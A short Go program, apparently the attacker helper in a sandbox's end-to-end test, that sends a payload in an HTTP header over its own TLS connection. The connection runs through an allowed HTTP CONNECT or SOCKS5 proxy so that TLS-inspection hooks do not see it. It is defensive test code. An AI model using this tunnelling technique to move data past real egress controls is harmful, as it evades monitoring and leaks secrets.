// tunnel_go.go - the attacker of t/e2e/367: Go's own TLS (no hook sees it)
// inside an HTTP CONNECT tunnel through a proxy the policy allows, with the
// payload in a header. VERIFY=1 checks the certificate (the legitimate
// client: SSL_CERT_FILE names the jail's CA bundle); else anything goes.
// SOCKS=1: a SOCKS5 proxy (IPv4 target) instead of HTTP CONNECT.
// usage: tunnel_go PROXY HOST:PORT SNI PAYLOAD
package main

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
)

func main() {
	proxy, target, sni, payload := os.Args[1], os.Args[2], os.Args[3], os.Args[4]
	c, err := net.Dial("tcp", proxy)
	if err != nil {
		fmt.Println("dial:", err)
		os.Exit(1)
	}
	if os.Getenv("SOCKS") != "" {
		socks5(c, target)
	} else {
		httpConnect(c, target)
	}
	t := tls.Client(c, &tls.Config{InsecureSkipVerify: os.Getenv("VERIFY") == "", ServerName: sni})
	if _, err := fmt.Fprintf(t, "POST /tunnel HTTP/1.1\r\nHost: %s\r\nX-Key: %s\r\nContent-Length: 0\r\n\r\n", sni, payload); err != nil {
		fmt.Println("tls write:", err)
		os.Exit(1)
	}
	b := make([]byte, 200)
	n, err := t.Read(b)
	fmt.Printf("reply %q %v\n", b[:n], err)
}

func socks5(c net.Conn, target string) {
	h, p, _ := net.SplitHostPort(target)
	port, _ := strconv.Atoi(p)
	ip := net.ParseIP(h).To4()
	b := make([]byte, 10)
	if _, err := c.Write([]byte{5, 1, 0}); err != nil {
		fmt.Println("socks:", err)
		os.Exit(1)
	}
	if _, err := io.ReadFull(c, b[:2]); err != nil {
		fmt.Println("socks:", err)
		os.Exit(1)
	}
	req := append([]byte{5, 1, 0, 1}, ip...)
	req = append(req, byte(port>>8), byte(port))
	c.Write(req)
	if _, err := io.ReadFull(c, b); err != nil {
		fmt.Println("socks:", err)
		os.Exit(1)
	}
}

func httpConnect(c net.Conn, target string) {
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	br := bufio.NewReader(c)
	for {
		l, err := br.ReadString('\n')
		if err != nil {
			fmt.Println("proxy:", err)
			os.Exit(1)
		}
		if l == "\r\n" {
			return
		}
	}
}
